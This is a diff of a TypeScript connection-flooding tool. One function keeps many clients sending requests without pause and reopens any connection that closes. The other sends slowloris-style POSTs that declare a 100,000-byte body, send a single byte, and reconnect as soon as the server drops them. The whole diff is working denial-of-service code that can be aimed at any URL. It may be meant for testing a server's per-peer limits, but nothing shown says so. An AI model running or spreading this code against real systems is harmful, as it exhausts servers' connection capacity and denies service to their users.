@@ -43,10 +43,14 @@ async function greedy({ url, from, file }: GreedyPlan): Promise<void> {
     another.write(String(asked).padStart(COUNTER.length, '0'), counter);
     return another;
   };
-  const loop = async (client: Client) => {
-    for (;;) {
-      // A connection that was closed is opened again.
-      await client.ask([next()], {}).catch(() => {});
+  const loop = async (first: Client) => {
+    for (let client = first; ; client = new Client(url, from)) {
+      try {
+        for (;;) await client.ask([next()], {});
+      } catch {
+        // Closed in the middle: once more, over another one.
+        client[Symbol.dispose]();
+      }
     }
   };
   const clients = Array.from({ length: CONNECTIONS }, () => new Client(url, from));
@@ -57,16 +61,13 @@ async function greedy({ url, from, file }: GreedyPlan): Promise<void> {
 /** Takes every place that one peer may have with bodies that never end, and goes on asking for more of them. */
 async function crowding({ url, from, count }: CrowdingPlan): Promise<void> {
   const { hostname: host, port } = new URL(url);
-  const another = async () => {
+  const another = () => {
     const socket = connect({ host, port: Number(port), localAddress: from }).on('error', () => {});
     socket.write('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\na');
-    socket.resume();
-    await new Promise((resolve) => socket.once('close', resolve));
+    socket.resume().once('close', another);
+    return new Promise((resolve) => socket.once('connect', resolve).once('close', resolve));
   };
-  const keep = async () => {
-    for (;;) await another();
-  };
-  for (let at = 0; at < count; at += 1) void keep();
+  for (let at = 0; at < count; at += 1) await another();
 }
 
 const [siege = '', given = ''] = process.argv.slice(2);
